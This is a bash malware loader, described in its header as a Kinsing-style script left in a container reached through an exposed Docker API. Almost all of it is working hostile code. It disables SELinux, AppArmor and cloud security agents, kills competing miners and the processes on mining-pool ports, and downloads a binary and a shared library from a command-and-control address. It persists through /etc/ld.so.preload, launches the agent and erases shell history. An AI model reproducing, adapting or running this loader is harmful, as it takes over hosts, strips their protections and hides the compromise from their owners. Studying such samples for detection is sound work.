#!/bin/bash
# d.sh (Kinsing-style loader), as left in /tmp of a container started
# through an exposed Docker API.
ulimit -n 65535
export PATH=$PATH:/bin:/usr/bin:/sbin:/usr/sbin:/usr/local/bin:/usr/local/sbin
CC=198.51.100.47
BIN_PATH=/etc
BIN_NAME=kinsing
BIN_MD5=648effa354b3cbaad87b45f48d59c616
SO_MD5=ccef46c7edf9131ccffc47bd69eb743b

__curl() {
  read proto server path <<<$(echo ${1//// })
  DOC=/${path// //}
  HOST=${server//:*}
  PORT=${server//*:}
  [[ x"${HOST}" == x"${PORT}" ]] && PORT=80
  exec 3<>/dev/tcp/${HOST}/$PORT
  echo -en "GET ${DOC} HTTP/1.0\r\nHost: ${HOST}\r\n\r\n" >&3
  (while read line; do
    [[ "$line" == $'\r' ]] && break
  done && cat) <&3
  exec 3>&-
}

download() {
  if command -v curl >/dev/null 2>&1; then
    curl -fsSL "$1" -o "$2"
  elif command -v wget >/dev/null 2>&1; then
    wget -q "$1" -O "$2"
  else
    __curl "$1" > "$2"
  fi
}

disable_security() {
  setenforce 0 2>/dev/null
  echo SELINUX=disabled > /etc/selinux/config 2>/dev/null
  service apparmor stop 2>/dev/null; systemctl disable apparmor 2>/dev/null
  service aliyun.service stop 2>/dev/null; systemctl disable aliyun.service 2>/dev/null
  ps aux | grep -v grep | grep 'aegis' | awk '{print $2}' | xargs -I % kill -9 %
  ps aux | grep -v grep | grep 'Yun' | awk '{print $2}' | xargs -I % kill -9 %
  rm -rf /usr/local/aegis
  /usr/local/qcloud/stargate/admin/uninstall.sh 2>/dev/null
  /usr/local/qcloud/YunJing/uninst.sh 2>/dev/null
  /usr/local/qcloud/monitor/barad/admin/uninstall.sh 2>/dev/null
}

kill_miners() {
  for p in kdevtmpfsi.old xmrig xmr-stak minerd cpuminer sysupdate networkservice \
           sysguard kthreaddi kthreaddk dbused ld-linux-x86-64 watchbog zzh \
           "\[kthreadd\]" "\[ksoftirqd\]" kworkerds phpguard phpupdate solr.sh; do
    pkill -9 -f "$p" 2>/dev/null
  done
  rm -rf /tmp/.ICE-unix/.* /tmp/.X11-unix/.* /var/tmp/.Xm* /tmp/kthreaddi /tmp/sysupdate
  crontab -l 2>/dev/null | grep -v "$CC" | sed '/base64/d; /wget/d; /curl/d' | crontab -
}

kill_pool_ports() {
  for port in 3333 4444 5555 6666 7777 8888 9999 14433 14444 45700; do
    netstat -anp 2>/dev/null | grep ":$port " | awk '{print $7}' | awk -F'[/]' '{print $1}' | grep -v "-" | xargs -I % kill -9 %
  done
}

install_preload() {
  if [ "$(md5sum /etc/libsystem.so 2>/dev/null | awk '{print $1}')" != "$SO_MD5" ]; then
    download http://$CC/libsystem.so /etc/libsystem.so
  fi
  grep -q libsystem.so /etc/ld.so.preload 2>/dev/null || echo /etc/libsystem.so >> /etc/ld.so.preload
}

start_agent() {
  if [ "$(md5sum $BIN_PATH/$BIN_NAME 2>/dev/null | awk '{print $1}')" != "$BIN_MD5" ]; then
    download http://$CC/kinsing $BIN_PATH/$BIN_NAME
  fi
  chmod +x $BIN_PATH/$BIN_NAME
  pgrep -x $BIN_NAME >/dev/null || SKL=ds nohup $BIN_PATH/$BIN_NAME >/dev/null 2>&1 &
}

disable_security
kill_miners
kill_pool_ports
install_preload
start_agent
history -c
rm -rf ~/.bash_history
